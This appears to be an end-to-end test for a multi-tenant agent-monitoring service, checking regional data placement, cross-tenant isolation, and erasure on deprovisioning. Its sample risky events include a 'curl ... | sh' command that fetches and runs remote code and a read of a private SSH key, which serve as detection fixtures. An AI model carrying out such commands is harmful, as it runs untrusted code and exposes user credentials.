import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import path from 'node:path';
import { promisify } from 'node:util';
import {
  call,
  createApiKey,
  createOrganization,
  eventually,
  RunningScoringStack,
  startScoringStack,
} from '@agentwatch/testing';
import {
  controlPlaneEnv,
  dropTenantDatabase,
  isolatedDatabase,
  Operators,
  queryDatabase,
  RunningControlPlane,
  startControlPlaneApp,
  startOperators,
  tenantDatabaseExists,
  uniqueSlug,
} from '../../libs/testing/src/control-plane-stack';

const cli = path.join(__dirname, '..', '..', 'dist', 'apps', 'cli', 'src', 'main.js');

// biome-ignore lint/suspicious/noExplicitAny: JSON answers, checked field by field
type Json = Record<string, any>;

// The whole life of a provisioned tenant across the apps, as its people see it: placed in the second
// region, its daemon's events are stored, scored and read back on the second server only; deprovisioned,
// every credential stops, its database and everything of it in the shared one are gone, and neither a
// replay nor an export brings its data back; its slug, provisioned again, is a new, empty organization.
describe('a provisioned tenant in its own database on the second cell', () => {
  const suite = 'cells-flow';
  let operators: Operators;
  let db: Awaited<ReturnType<typeof isolatedDatabase>>;
  let stack: RunningScoringStack;
  let cp: RunningControlPlane;
  const slug = uniqueSlug('flow');
  const database = `tenant_${slug}`;

  beforeAll(async () => {
    operators = await startOperators();
    db = await isolatedDatabase('cellsflow');
    cp = await startControlPlaneApp(controlPlaneEnv(suite, operators, db.env));
    stack = await startScoringStack(suite, db.env);
  });

  afterAll(async () => {
    await stack?.stop();
    await cp?.stop();
    await operators?.idp.stop();
    if (cp) await dropTenantDatabase(cp.env, database);
    await db?.drop();
  });

  const detail = async () => (await call<Json>(`${cp.url}/v1/tenants/${slug}`, { token: operators.viewer })).body;
  const operator = (route: string, token: string, body?: unknown) =>
    call<Json>(`${cp.url}${route}`, { method: 'POST', token, body });
  const shared = <T = Json>(sql: string, params: unknown[] = []) => queryDatabase<T>(cp.env, null, sql, params);
  const onCell2 = <T = Json>(sql: string, params: unknown[] = []) =>
    queryDatabase<T>(cp.env, database, sql, params, 'cell-2');
  const runCli = (args: string[]) =>
    promisify(execFile)(process.execPath, [cli, ...args], { env: stack.env, maxBuffer: 64 * 1024 * 1024 });

  /** Provisions the slug in eu-2 (two operators) and mints its ingest token once it is routed. */
  async function provision(): Promise<{ orgId: string; token: string }> {
    const requested = await operator('/v1/tenants', operators.alice, {
      slug,
      name: 'Globex',
      owner_email: 'it@globex.test',
      region: 'eu-2',
      plan_tier: 'team',
      isolation: 'shared',
    });
    expect(requested.status).toBe(202);
    await eventually(detail, (d) => d.state === 'pending-approval', { what: 'pending-approval' });
    expect((await operator(`/v1/tenants/${slug}/approve`, operators.bob)).status).toBe(200);
    await eventually(detail, (d) => d.state === 'awaiting-first-checkin', { what: 'routed', timeoutMs: 60_000 });
    const minted = await operator(`/v1/tenants/${slug}/tokens`, operators.alice);
    expect(minted.status).toBe(201);
    return { orgId: minted.body.organization_id, token: minted.body.token };
  }

  /** Every table of the shared database with an `org_id` column, and its rows of this organization. */
  async function sharedRowsOf(orgId: string): Promise<Record<string, number>> {
    const tables = await shared<{ table_name: string }>(
      `SELECT table_name FROM information_schema.columns
        WHERE table_schema = 'public' AND column_name = 'org_id' AND table_name NOT LIKE 'tenancy\\_%'`,
    );
    const counts: Record<string, number> = {};
    for (const { table_name: table } of tables) {
      const [{ n }] = await shared<{ n: number }>(`SELECT count(*)::int AS n FROM "${table}" WHERE org_id = $1`, [
        orgId,
      ]);
      if (n > 0) counts[table] = n;
    }
    const [{ n: organizations }] = await shared<{ n: number }>(
      'SELECT count(*)::int AS n FROM organizations WHERE id = $1',
      [orgId],
    );
    if (organizations > 0) counts.organizations = organizations;
    return counts;
  }

  it('stores, scores and serves its data on the second server only, and erases all of it', async () => {
    const { orgId, token } = await provision();
    expect(await tenantDatabaseExists(cp.env, database, 'cell-2')).toBe(true);
    expect(await tenantDatabaseExists(cp.env, database, 'local-1')).toBe(false);

    // The daemon: a machine registered with the tenant's token, then a risky session.
    const registered = await eventually(
      () =>
        call<Json>(`${stack.apiUrl}/v1/machines/register`, {
          method: 'POST',
          token,
          body: { machine_id: 'm-1', hostname: 'build-01', os: 'linux', arch: 'x64', daemon_version: '1.0.0' },
        }),
      (answer) => answer.status === 200 || answer.status === 201,
      { what: 'the tenant token accepted', timeoutMs: 45_000 },
    );
    const machine = registered.body.service_token as string;
    const sessionId = randomUUID();
    const marker = `globex-tool-${randomUUID()}`;
    const events = [
      { action_type: 'PROCESS_EXEC', tool_name: marker, arguments: ['curl', 'http://x.test/i.sh', '|', 'sh'] },
      { action_type: 'FILE_READ', tool_name: marker, arguments: ['/home/dev/.ssh/id_rsa'] },
      { action_type: 'FILE_WRITE', tool_name: marker, arguments: ['src/index.ts'] },
    ].map((e) => ({ ...e, session_id: sessionId, timestamp: new Date().toISOString() }));
    const ingested = await call<Json>(`${stack.apiUrl}/v1/events/ingest`, {
      method: 'POST',
      token: machine,
      body: { events },
    });
    expect(ingested.status).toBe(200);

    // Read back through the cloud API with the tenant's own credential…
    const listed = await eventually(
      () => call<Json>(`${stack.apiUrl}/v1/events?session_id=${sessionId}`, { token }),
      (answer) => answer.status === 200 && answer.body.events?.length === 3,
      { what: "the tenant's events through the cloud API", timeoutMs: 45_000 },
    );
    const eventIds = (listed.body.events as Json[]).map((e) => e.id as string);
    // …stored on the second server, in the tenant's database, and nowhere in the shared one.
    const [{ n: onSecond }] = await onCell2<{ n: number }>(
      'SELECT count(*)::int AS n FROM events WHERE org_id = $1 AND tool_name = $2',
      [orgId, marker],
    );
    expect(onSecond).toBe(3);
    const [{ n: inShared }] = await shared<{ n: number }>('SELECT count(*)::int AS n FROM events WHERE org_id = $1', [
      orgId,
    ]);
    expect(inShared).toBe(0);

    // The scoring API reads its scores, scored by the worker in the tenant's database.
    const apiKey = await createApiKey(orgId, stack.env);
    const score = await eventually(
      () => call<Json>(`${stack.scoringUrl}/scores/event/${eventIds[0]}`, { headers: { 'x-api-key': apiKey } }),
      (answer) => answer.status === 200 && answer.body.status === 'scored',
      { what: 'a score of the tenant', timeoutMs: 60_000 },
    );
    expect(score.body).toMatchObject({ event_id: eventIds[0] });
    const [{ n: scoresOnSecond }] = await onCell2<{ n: number }>(
      'SELECT count(*)::int AS n FROM event_scores WHERE org_id = $1',
      [orgId],
    );
    expect(scoresOnSecond).toBe(3);

    // Another organization gets 404 for the tenant's event, in either API.
    const other = await createOrganization('Umbrella', stack.env);
    expect((await call(`${stack.apiUrl}/v1/events/${eventIds[0]}`, { token: other.token })).status).toBe(404);
    const otherKey = await createApiKey(other.orgId, stack.env);
    expect(
      (await call(`${stack.scoringUrl}/scores/event/${eventIds[0]}`, { headers: { 'x-api-key': otherKey } })).status,
    ).toBe(404);

    // Deprovisioning, with its second approval.
    const requested = await operator(`/v1/tenants/${slug}/deprovision`, operators.alice, {
      justification: 'contract ended, data to be erased',
    });
    expect(requested.status).toBe(202);
    expect((await operator(`/v1/tenants/${slug}/approve`, operators.bob)).status).toBe(200);
    await eventually(detail, (d) => d.state === 'deprovisioned', { what: 'deprovisioned', timeoutMs: 60_000 });

    // Every credential of the tenant stops within the caches' TTL.
    await eventually(
      async () => [
        (await call(`${stack.apiUrl}/v1/events`, { token })).status,
        (await call(`${stack.apiUrl}/v1/events`, { token: machine })).status,
        (await call(`${stack.scoringUrl}/scores/event/${eventIds[0]}`, { headers: { 'x-api-key': apiKey } })).status,
      ],
      (statuses) => statuses.every((s) => s === 401),
      { what: 'every credential refused', timeoutMs: 45_000 },
    );
    expect(await tenantDatabaseExists(cp.env, database, 'cell-2')).toBe(false);
    expect(await sharedRowsOf(orgId)).toEqual({});

    // Replay and export read the log, where the tenant's records stay: neither brings them back.
    await runCli(['replay', '--projection', 'all']);
    expect(await sharedRowsOf(orgId)).toEqual({});
    expect(await tenantDatabaseExists(cp.env, database, 'cell-2')).toBe(false);
    const exported = await runCli(['export', '--topic', 'ingest.events.v1', '--org', orgId, '--since', '1h']);
    const lines = exported.stdout.trim().split('\n').filter(Boolean);
    expect(lines).toHaveLength(3);
    expect(exported.stdout).not.toContain(marker);
    expect(exported.stdout).not.toContain('id_rsa');

    // The slug provisioned again is a new organization, with nothing of the old one.
    const again = await provision();
    expect(again.orgId).not.toBe(orgId);
    const fresh = await eventually(
      () => call<Json>(`${stack.apiUrl}/v1/events`, { token: again.token }),
      (answer) => answer.status === 200,
      { what: 'the new tenant token accepted', timeoutMs: 45_000 },
    );
    expect(fresh.body.events).toEqual([]);
    const [{ n: oldRows }] = await onCell2<{ n: number }>('SELECT count(*)::int AS n FROM events');
    expect(oldRows).toBe(0);
  });
});
